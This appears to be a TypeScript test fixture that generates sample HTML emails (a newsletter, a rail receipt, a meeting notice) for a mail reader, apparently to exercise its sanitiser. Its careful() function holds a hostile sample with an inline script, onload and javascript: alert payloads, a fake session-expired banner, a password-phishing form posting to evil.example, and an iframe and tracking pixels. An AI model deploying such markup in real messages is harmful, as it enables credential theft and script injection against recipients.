// HTML as real senders write it: tables, inline styles, remote pictures, a tracking pixel.

const letters = [
  ['What we read on trains', 'Fourteen people, one timetable, and the book that made four of them miss their stop.'],
  ['Seven small presses to watch', 'They print in kitchens and sheds, and one of them in a former swimming pool.'],
  ['The index as a work of art', 'See also: patience; see also: cats, their absence.'],
  ['In praise of the second draft', 'The first one is for you. The third one is vanity.'],
] as const;

/** A weekly letter with a remote header picture and a hidden pixel. */
export function newsletter(issue: number): string {
  const [title, lead] = letters[issue % letters.length] ?? letters[0];
  const item = (head: string, text: string) =>
    `<tr><td style="padding:16px 32px;border-top:1px solid #e8e2d6"><h3 style="margin:0 0 6px;font:600 17px Georgia,serif;color:#26221c">${head}</h3><p style="margin:0;font:15px/1.55 Georgia,serif;color:#4a443a">${text}</p></td></tr>`;
  return `<!doctype html><html><head><style>.btn{background:#8a3b2b}@media(max-width:480px){.wrap{width:100%!important}}</style></head>
<body style="margin:0;background:#f4efe6"><table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 8px">
<table class="wrap" role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#fffdf8;border-radius:8px">
<tr><td style="padding:28px 32px 8px;font:600 13px Georgia,serif;letter-spacing:.12em;color:#8a3b2b">THE READING ROOM · LETTER ${112 - issue}</td></tr>
<tr><td style="padding:0 32px"><h1 style="margin:0 0 10px;font:600 30px/1.2 Georgia,serif;color:#26221c">${title}</h1><p style="margin:0 0 20px;font:17px/1.5 Georgia,serif;color:#4a443a">${lead}</p></td></tr>
<tr><td><img src="https://pictures.readingroom.example/letter/${112 - issue}/head.jpg" width="600" height="220" alt="Drawing of a reading chair" style="display:block;width:100%;height:auto"></td></tr>
${item('A shelf by the window', 'Three novels in which nothing happens, beautifully, and one in which everything does.')}
${item('Letters from readers', 'Mr. Ahmed writes that he has finished the encyclopaedia and would like to start again.')}
${item('In the shop', 'The tote bag is back, and no longer shrinks.')}
<tr><td style="padding:24px 32px"><a class="btn" href="https://readingroom.example/letter/${112 - issue}" style="display:inline-block;background:#8a3b2b;color:#fff;padding:12px 20px;border-radius:6px;font:600 15px Georgia,serif;text-decoration:none">Read the whole letter</a></td></tr>
<tr><td style="padding:8px 32px 28px;font:12px/1.5 Georgia,serif;color:#8b8374">You get this letter because you asked for it. <a href="https://readingroom.example/leave" style="color:#8b8374">Leave the list</a></td></tr>
</table></td></tr></table><img src="https://track.readingroom.example/open.gif?u=8812" width="1" height="1" alt=""></body></html>`;
}

/** A bill or ticket: a table with numbers. */
export function receipt(from = 'Northern Rail', amount = '£318.40', number = 'NR-7741-2290'): string {
  const row = (name: string, value: string) =>
    `<tr><td style="padding:8px 0;color:#5b6470">${name}</td><td align="right" style="padding:8px 0;font-weight:600">${value}</td></tr>`;
  return `<html><body style="font-family:Arial,Helvetica,sans-serif;color:#1d2530"><table width="100%"><tr><td align="center">
<table width="520" style="border:1px solid #d9dee5;border-radius:8px;padding:24px"><tr><td><h2 style="margin:0 0 4px">${from}</h2><p style="margin:0 0 16px;color:#5b6470">Thank you, Alice.</p>
<table width="100%" style="border-top:2px solid #1d2530">${row('Number', number)}${row('Total', amount)}${row('Paid with', 'Card ending 4471')}</table>
<p style="font-size:13px;color:#5b6470">Questions? Answer this message.</p></td></tr></table></td></tr></table></body></html>`;
}

/** A message that tries things a reader must not let it do. */
export function careful(): string {
  return `<html><head><script>document.title='owned'</script><style>body{background:url(https://track.tickets.example/bg.png)}</style></head>
<body onload="alert(1)"><div style="position:fixed;top:0;left:0;width:100%;background:#fde68a">Your session has expired. <a href="javascript:alert(2)">Sign in again</a></div>
<h2>The River Maps</h2><p>Row F, seats 11 and 12. Doors open at half past seven.</p>
<form action="https://evil.example/take"><input name="password" placeholder="Password"><button>Confirm</button></form>
<p><a href="https://tickets.example/order/5512">Show the order</a></p><iframe src="https://evil.example"></iframe><img src="https://track.tickets.example/p.gif?id=5512" width="1" height="1"></body></html>`;
}

/** What a calendar program writes beside its text/calendar part. */
export function appointment(): string {
  return '<html><body style="font-family:Arial,sans-serif"><h2 style="font-weight:500">Windows and acoustics</h2><p><b>When:</b> Thursday 10:00 to 12:00 (Europe/London)<br><b>Where:</b> Hallam &amp; Frost, 14 Mill Lane<br><b>Who:</b> Hannah Frost (organiser), Alice Martin, Bob Keller, Declan Hallam</p><p>Lotte brings her numbers. We bring coffee.</p></body></html>';
}
